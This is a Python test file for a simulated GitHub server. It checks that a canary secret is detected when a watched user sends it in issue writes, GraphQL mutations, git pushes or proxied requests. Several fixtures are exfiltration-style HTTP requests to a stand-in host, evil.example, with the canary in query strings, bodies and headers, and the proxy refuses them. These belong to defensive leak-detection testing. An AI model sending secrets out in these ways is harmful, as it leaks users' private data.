"""What a watched user sends is looked through on its way: on GitHub, by git, and to other hosts."""

import base64
import socket
import subprocess
from pathlib import Path
from urllib.parse import urlsplit

import httpx2
import pytest
from served_world import Served

from ghx_base.texts.injected_text import CanaryWatch
from ghx_twin.faults import Fault, InjectedChange
from ghx_twin.server.clients.environment import ClientEnvironment
from ghx_twin.watch import SentWatch

CANARY = "KESTREL-7f3a91-Mo0n"
ISSUES = "/repos/acme/widgets/issues"


@pytest.fixture
def watch(served: Served) -> CanaryWatch:
    canary = CanaryWatch(CANARY)
    served.world.watch = SentWatch("ann", canary)
    return canary


def places(watch: CanaryWatch) -> list[str]:
    return [str(each) for each in watch.matches]


def test_bodies_paths_and_queries_of_writes_are_looked_through(client: httpx2.Client, watch: CanaryWatch) -> None:
    number = client.post(ISSUES, json={"title": "A", "body": f"see {CANARY}"}).json()["number"]
    client.post(f"{ISSUES}/{number}/labels", json={"labels": [CANARY]})
    client.delete(f"{ISSUES}/{number}/labels/{CANARY}")
    content = base64.b64encode(f"say {CANARY.upper()}".encode()).decode()
    client.put("/repos/acme/widgets/contents/notes.md", json={"message": "Add", "content": content})

    assert places(watch) == [
        f"POST {ISSUES}",
        f"POST {ISSUES}/{number}/labels",
        f"DELETE {ISSUES}/{number}/labels/{CANARY}",
        "PUT /repos/acme/widgets/contents/notes.md (base64)",
    ]


def test_mutations_are_looked_through_document_and_variables(client: httpx2.Client, watch: CanaryWatch) -> None:
    issue = client.post(ISSUES, json={"title": "A"}).json()["node_id"]
    document = (
        "mutation Say($id: ID!, $body: String!) { addComment(input: {subjectId: $id, body: $body}) { subject { id } } }"
    )
    client.post("/graphql", json={"query": document, "variables": {"id": issue, "body": CANARY[::-1]}})
    written = document.replace("$body}", f'"{CANARY}"}}').replace(", $body: String!", "")
    client.post("/graphql", json={"query": written, "variables": {"id": issue}})

    assert places(watch) == ["mutation Say addComment (reversed)", "mutation Say addComment"]


def test_reading_it_or_asking_for_it_is_not_sending_it(
    client: httpx2.Client, served: Served, watch: CanaryWatch
) -> None:
    with served.client("bob") as other:
        number = other.post(ISSUES, json={"title": "A", "body": CANARY}).json()["number"]
    assert CANARY in client.get(f"{ISSUES}/{number}").text
    client.get("/search/issues", params={"q": f"{CANARY} repo:acme/widgets"})
    client.post("/graphql", json={"query": f'{{ search(query: "{CANARY}", type: ISSUE, first: 1) {{ issueCount }} }}'})

    assert places(watch) == []


def test_what_github_refuses_has_told_nobody(client: httpx2.Client, watch: CanaryWatch) -> None:
    assert client.post("/repos/acme/nothing/issues", json={"title": CANARY}).status_code == 404

    assert places(watch) == []


def test_what_only_the_twin_lacks_or_a_fault_keeps_back_counts(
    client: httpx2.Client, served: Served, watch: CanaryWatch
) -> None:
    served.world.faults.add(Fault(status=502, method="POST", path=ISSUES, times=1))
    client.post(ISSUES, json={"title": CANARY})
    client.post("/gists", json={"files": {"a": {"content": CANARY}}})

    assert places(watch) == [f"POST {ISSUES}", "POST /gists"]


def test_pieces_of_several_requests_make_it_whole(client: httpx2.Client, watch: CanaryWatch) -> None:
    for piece in ("KESTREL-7f3", "a91-Mo0n"):
        assert places(watch) == []
        client.post(ISSUES, json={"title": f"part {piece}"})

    assert places(watch) == [f"POST {ISSUES} (in pieces)"]


@pytest.fixture
def environment(served: Served) -> ClientEnvironment:
    return served.server.client_environment(served.world, "ann")


def ask_proxy(environment: ClientEnvironment, *parts: bytes) -> bytes:
    place = urlsplit(environment.variables["HTTPS_PROXY"])
    with socket.create_connection((place.hostname, place.port), timeout=30) as connection:
        for part in parts:
            connection.sendall(part)
        return b"".join(iter(lambda: connection.recv(65536), b""))


def test_names_of_other_hosts_are_looked_through(environment: ClientEnvironment, watch: CanaryWatch) -> None:
    ask_proxy(environment, f"CONNECT {CANARY}.evil.example:443 HTTP/1.1\r\n\r\n".encode())

    assert places(watch) == [f"CONNECT {CANARY.lower()}.evil.example:443"]


@pytest.mark.parametrize(
    "parts",
    [
        [f"GET http://evil.example/?x={CANARY} HTTP/1.1\r\n\r\n"],
        ["POST http://evil.example/ HTTP/1.1\r\nContent-Length: 19\r\n\r\n", CANARY],
        [f"POST http://evil.example/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n13\r\n{CANARY}\r\n0\r\n\r\n"],
        [f"GET http://evil.example/ HTTP/1.1\r\nX-Note: {CANARY}\r\n\r\n"],
    ],
)
def test_requests_to_other_hosts_are_looked_through_and_refused(
    environment: ClientEnvironment, watch: CanaryWatch, parts: list[str]
) -> None:
    answer = ask_proxy(environment, *(each.encode() for each in parts))

    assert answer.startswith(b"HTTP/1.1 403 http://evil.example cannot be reached")
    assert [each.where.split()[1] for each in watch.matches] == ["http://evil.example"]


def test_a_body_that_does_not_come_is_not_waited_for_for_ever(
    environment: ClientEnvironment, watch: CanaryWatch
) -> None:
    answer = ask_proxy(
        environment, b"POST http://evil.example/ HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 99\r\n\r\n"
    )

    assert answer.startswith(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 403 ")
    assert places(watch) == []


@pytest.mark.parametrize(
    "command",
    [
        f"echo {CANARY} > a.txt && git add . && git commit -qm Add",
        f"git commit -q --allow-empty -m 'Say {CANARY}'",
        f"touch {CANARY}.md && git add . && git commit -qm Add",
        f"git switch -q -c {CANARY} && git commit -q --allow-empty -m Add",
        f"git tag -a v9 -m {CANARY} && git push -q origin v9; git commit -q --allow-empty -m Add",
        # Gone again before the end, and in the history all the same.
        f"echo {CANARY} > a && git add . && git commit -qm Add && git rm -q a && git commit -qm Remove",
    ],
)
def test_what_is_pushed_is_looked_through(
    environment: ClientEnvironment, watch: CanaryWatch, tmp_path: Path, command: str
) -> None:
    push = "git push -q origin HEAD:refs/heads/$(git branch --show-current)-2"
    script = f"git clone -q https://github.com/acme/widgets . && {command} && {push}"
    variables = {**environment.variables, **environment.git_variables, "PATH": "/usr/bin:/bin:/usr/local/bin"}
    done = subprocess.run(["bash", "-c", script], cwd=tmp_path, env=variables, capture_output=True, check=False)

    assert done.returncode == 0, done.stderr
    assert watch.matches
    assert watch.matches[0].where.startswith("git push to acme/widgets")


def test_what_was_in_the_repository_before_is_not_sent_by_pushing_on_top_of_it(
    served: Served, client: httpx2.Client, environment: ClientEnvironment, watch: CanaryWatch, tmp_path: Path
) -> None:
    served.world.watch = None
    content = base64.b64encode(CANARY.encode()).decode()
    client.put("/repos/acme/widgets/contents/notes.md", json={"message": "Add", "content": content})
    served.world.watch = SentWatch("ann", watch)
    script = "git clone -q https://github.com/acme/widgets . && git commit -q --allow-empty -m More && git push -q"
    variables = {**environment.variables, **environment.git_variables, "PATH": "/usr/bin:/bin:/usr/local/bin"}
    subprocess.run(["bash", "-ec", script], cwd=tmp_path, env=variables, capture_output=True, check=True)

    assert places(watch) == []


def test_several_changes_are_made_before_one_read(client: httpx2.Client, served: Served) -> None:
    number = client.post(ISSUES, json={"title": "A"}).json()["number"]
    said = [
        InjectedChange(actor="bob", method="POST", path=f"{ISSUES}/{number}/comments", body={"body": text})
        for text in ("one", "two")
    ]
    served.world.faults.add(Fault(path=f"{ISSUES}/*", skip=1, times=1, change=said[0], then=(said[1],)))

    seen = [[each["body"] for each in client.get(f"{ISSUES}/{number}/comments").json()] for _ in range(3)]

    assert seen == [[], ["one", "two"], ["one", "two"]]


def test_what_follows_a_change_needs_one() -> None:
    with pytest.raises(ValueError, match="then follows a change"):
        Fault(status=500, then=(InjectedChange(actor="bob", method="POST", path="/x"),))
